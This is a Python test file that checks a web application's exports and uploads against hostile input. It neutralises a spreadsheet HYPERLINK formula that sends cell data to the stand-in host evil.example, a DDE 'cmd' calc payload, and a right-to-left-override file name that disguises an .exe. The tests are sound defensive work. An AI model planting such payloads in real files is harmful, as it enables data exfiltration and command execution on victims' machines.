"""Hostile text on its way into files and headers: formulas stay text in every export, control and
bidirectional characters never reach a stored file name or a Content-Disposition header."""

import csv
import io
from datetime import date
from urllib.parse import unquote

import openpyxl
from httpx import AsyncClient
from sqlalchemy.ext.asyncio import AsyncSession

from shared.auth.models import Role
from tests.support.factories import bearer, make_plan, make_tree, make_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


async def test_a_facility_named_as_a_formula_is_text_in_both_exports_and_imports_back_unchanged(
    client: AsyncClient, session: AsyncSession
) -> None:
    tree = await make_tree(session)
    admin = bearer(await make_user(session, username="root", role=Role.admin))
    body = {"code": "GC-1", "name": FORMULA, "type": "grassroots_centre", "org_unit_id": tree.community_a1.id}
    assert (
        await client.post("/api/v1/facilities", json=body | {"status": "planned"}, headers=admin)
    ).status_code == 201
    exported = await client.get("/api/v1/facilities/export", params={"format": "csv"}, headers=admin)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert rows[0]["name"] == "'" + FORMULA
    again = await client.post(
        "/ingest/v1/imports",
        headers=admin,
        data={"kind": "facilities"},
        files={"file": ("facilities.csv", exported.content, "text/csv")},
    )
    assert again.status_code == 201, again.text
    assert again.json()["created"]["unchanged"] == 1  # the apostrophe we added is taken off again
    book = await client.get("/api/v1/facilities/export", params={"format": "xlsx"}, headers=admin)
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("name") + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


async def test_a_report_text_is_a_string_cell_in_the_reports_workbook(
    client: AsyncClient, session: AsyncSession
) -> None:
    tree = await make_tree(session)
    await make_plan(session, unit=tree.street_a, starts_on=date(2026, 1, 1), ends_on=date(2026, 12, 31))
    clerk = bearer(await make_user(session, username="clerk-a1", role=Role.unit_clerk, unit=tree.community_a1))
    street = bearer(await make_user(session, username="office-a", role=Role.plan_manager, unit=tree.street_a))
    body = {"org_unit_id": tree.community_a1.id, "kind": "monthly_update", "period": "2026-03"}
    report = (await client.post("/api/v1/reports", json=body, headers=street)).json()
    edited = await client.patch(
        f"/api/v1/reports/{report['id']}", json={"text": "=1+1"}, headers=clerk | {"If-Match": f'"{report["version"]}"'}
    )
    assert edited.status_code == 200, edited.text
    exported = await client.get(f"/api/v1/reports/{report['id']}/export", params={"format": "xlsx"}, headers=clerk)
    assert exported.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content))["概况"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert (cells["本单位说明"].value, cells["本单位说明"].data_type) == ("=1+1", "s")


async def test_an_evidence_file_name_is_stored_without_direction_or_control_characters(
    client: AsyncClient, session: AsyncSession
) -> None:
    tree = await make_tree(session)
    office = bearer(await make_user(session, username="office", role=Role.plan_manager, unit=tree.district))
    plan = await make_plan(session, unit=tree.district)
    task = await client.post(
        f"/api/v1/plans/{plan.id}/tasks", headers=office, json={"kind": "work_task", "title": "=cmd|' /C calc'!A0"}
    )
    assert task.status_code == 201, task.text
    # Written by hand: httpx would percent-encode the NUL, a hostile client does not.
    name = "纪要\u202efdp.exe\x00\x1b\u2066.pdf".encode()
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="' + name + b'"\r\n'
        b"Content-Type: application/pdf\r\n\r\n%PDF-1.4 minutes\r\n--b--\r\n"
    )
    stored = await client.post(
        f"/api/v1/tasks/{task.json()['id']}/evidence",
        headers=office | {"Content-Type": "multipart/form-data; boundary=b"},
        content=body,
    )
    assert stored.status_code == 201, stored.text
    assert stored.json()["filename"] == "纪要fdp.exe.pdf"
    download = await client.get(f"/api/v1/evidence/{stored.json()['id']}/download", headers=office)
    assert download.status_code == 200
    header = download.headers["content-disposition"]
    assert "filename*=UTF-8''" in header and "\u202e" not in unquote(header) and "\x00" not in unquote(header)
